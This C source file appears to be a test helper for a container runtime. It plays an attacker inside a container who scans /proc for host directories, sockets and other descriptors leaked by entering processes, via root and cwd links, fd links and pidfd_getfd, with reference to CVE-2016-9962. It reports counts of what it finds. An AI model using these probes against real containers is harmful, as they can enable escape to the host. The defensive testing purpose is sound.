// A thief in a container: looks at every process that appears, and tries to
// get to the host through it, as somebody would who has taken the container
// over and may trace its processes (CVE-2016-9962).
//
//   thief MARKER    the path of a file on the host
//
// Prints "ready"; on SIGTERM, "looked N" and "root N cwd N fd N pidfd N": how
// often it got hold of a directory from which MARKER can be reached, or of a
// socket, an epoll or a signalfd. The first of each kind is described. Static, so that it runs in any image.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { kRoot, kCwd, kFd, kPidfd, kWays };
static const char* const kNames[kWays] = {"root", "cwd", "fd", "pidfd"};
static const int kMostFds = 48;  // asked for by number through a pidfd

static volatile sig_atomic_t ended;
static const char* marker;
static char climb[PATH_MAX + 64];  // from deep in the host's tree to MARKER
static long found[kWays], looked;

static void End(int signal) {
  (void)signal;
  ended = 1;
}

static void Report(int way, int pid, const char* what) {
  char path[64], name[256] = "";
  if (found[way]++ > 0) return;
  snprintf(path, sizeof(path), "/proc/%d/comm", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0) {
    const ssize_t n = read(fd, name, sizeof(name) - 1);
    if (n > 0) name[n - 1] = '\0';
    close(fd);
  }
  printf("first %s: process %d (%s): %s\n", kNames[way], pid, name, what);
  fflush(stdout);
}

// A directory of the host has MARKER above or below; ".." of a container's own
// ends at its root.
static int Reaches(int dir) {
  struct stat info;
  return fstatat(dir, climb, &info, 0) == 0 ||
         fstatat(dir, marker + 1, &info, 0) == 0;
}

static void LookAtDirectory(int way, int pid, const char* link) {
  char path[64];
  snprintf(path, sizeof(path), "/proc/%d/%s", pid, link);
  const int dir = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (dir < 0) return;
  ++looked;
  if (Reaches(dir)) Report(way, pid, path);
  close(dir);
}

// What an open file is: ours to have, or a piece of the host.
static void Judge(int way, int pid, int fd, const char* what) {
  struct stat info;
  if (fstat(fd, &info) != 0) return;
  ++looked;
  if (S_ISSOCK(info.st_mode) || (S_ISDIR(info.st_mode) && Reaches(fd))) {
    Report(way, pid, what);
  }
}

static void LookAtLinks(int pid) {
  char path[PATH_MAX], target[PATH_MAX];
  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
  DIR* const list = opendir(path);
  if (list == NULL) return;
  for (const struct dirent* entry; (entry = readdir(list)) != NULL;) {
    if (entry->d_name[0] == '.') continue;
    snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, entry->d_name);
    const ssize_t n = readlink(path, target, sizeof(target) - 1);
    if (n <= 0) continue;
    target[n] = '\0';
    ++looked;
    // These cannot be opened again, but they are there.
    if (strncmp(target, "socket:", 7) == 0 || strstr(target, "[eventpoll]") ||
        strstr(target, "[signalfd]")) {
      Report(kFd, pid, target);
      continue;
    }
    const int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) continue;
    Judge(kFd, pid, fd, target);
    close(fd);
  }
  closedir(list);
}

static void LookThroughPidfd(int pid) {
  const int process = (int)syscall(SYS_pidfd_open, pid, 0);
  if (process < 0) return;
  for (int i = 0; i < kMostFds; ++i) {
    const int fd = (int)syscall(SYS_pidfd_getfd, process, i, 0);
    if (fd < 0) continue;
    char what[32];
    snprintf(what, sizeof(what), "descriptor %d", i);
    Judge(kPidfd, pid, fd, what);
    close(fd);
  }
  close(process);
}

static void LookAround(void) {
  const int self = getpid();
  DIR* const proc = opendir("/proc");
  if (proc == NULL) return;
  for (const struct dirent* entry; (entry = readdir(proc)) != NULL;) {
    const int pid = atoi(entry->d_name);
    if (pid <= 0 || pid == self) continue;
    LookAtDirectory(kRoot, pid, "root");
    LookAtDirectory(kCwd, pid, "cwd");
    LookAtLinks(pid);
    LookThroughPidfd(pid);
  }
  closedir(proc);
}

int main(int argc, char** argv) {
  if (argc != 2 || argv[1][0] != '/') return 2;
  marker = argv[1];
  for (int i = 0; i < 16; ++i) strcat(climb, "../");
  strncat(climb, marker + 1, PATH_MAX);
  signal(SIGTERM, End);
  puts("ready");
  fflush(stdout);
  while (!ended) LookAround();
  printf("looked %ld\nroot %ld cwd %ld fd %ld pidfd %ld\n", looked,
         found[kRoot], found[kCwd], found[kFd], found[kPidfd]);
  return 0;
}
